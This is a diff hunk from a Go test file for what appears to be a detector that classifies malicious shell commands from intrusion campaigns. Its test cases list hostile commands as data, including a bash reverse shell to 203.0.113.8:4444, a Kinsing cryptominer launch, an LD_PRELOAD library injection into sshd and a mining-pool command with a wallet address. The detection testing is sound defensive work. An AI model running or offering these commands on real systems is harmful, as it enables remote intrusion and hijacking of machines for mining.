@@ -46,7 +46,7 @@ func TestAnalyzeCampaigns(t *testing.T) {
 			marks: []string{"base64-to-shell", "download-to-shell"}, hosts: []string{"198.51.100.9"}},
 		{name: "outlaw", cmd: "/root/.configrc5/a/upd>/dev/null 2>&1", runs: []string{"program:/root/.configrc5/a/upd"}},
 		{name: "cd then run", cmd: "cd /tmp && ./kinsing -c config.json", marks: []string{"miner"}, runs: []string{"program:/tmp/kinsing"}},
-		{name: "preload env", cmd: "LD_PRELOAD=/usr/local/lib/libx.so /usr/sbin/sshd", marks: []string{"preload"},
+		{name: "preload env", cmd: "LD_PRELOAD=/usr/local/lib/libx.so /usr/sbin/sshd",
 			runs: []string{"library:/usr/local/lib/libx.so", "program:/usr/sbin/sshd"}},
 		{name: "reverse shell", cmd: "bash -i >& /dev/tcp/203.0.113.8/4444 0>&1", marks: []string{"dev-tcp"}, hosts: []string{"203.0.113.8"}},
 		{name: "pool", cmd: "/tmp/.x/xm -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD",
